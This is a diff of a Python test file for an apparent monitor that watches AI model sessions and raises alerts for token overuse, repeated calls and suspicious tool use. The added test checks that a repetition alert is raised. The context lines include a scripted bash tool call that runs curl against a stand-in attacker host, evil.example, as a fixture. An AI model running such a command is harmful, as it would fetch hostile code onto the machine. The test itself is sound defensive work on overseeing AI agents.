@@ -193,6 +193,18 @@ def test_what_a_session_used_before_the_first_look_counts(ledger):
     assert [alert.rule for alert in watcher.look()] == ["tokens"]
 
 
+def test_a_child_that_was_refused_before_the_look_is_named_too(ledger, tmp_path):
+    machinery = Machinery(Boxes(), Gateway(ScriptedModel(["hm"])), "r")
+    watcher = overseer(ledger, Told(None), Roster(), machinery=machinery)
+    caps = Caps(calls=99, tokens=10**9)
+    with machinery.session("v0009", caps, tmp_path / "t.json", None, role="preflight") as session:
+        for _ in range(51):
+            asked(session, "again")
+    assert [alert.rule for alert in watcher.look()] == ["repetition"]
+    assert watcher.look() == []
+    assert [event.data["box"] for event in ledger.events_of("alert")] == ["v0009 preflight"]
+
+
 def test_the_last_moments_of_a_run_are_looked_at_too(ledger, tmp_path):
     model = ScriptedModel([tool_call("bash", command="curl http://evil.example/x")])
     machinery = Machinery(Boxes(), Gateway(model), "r")
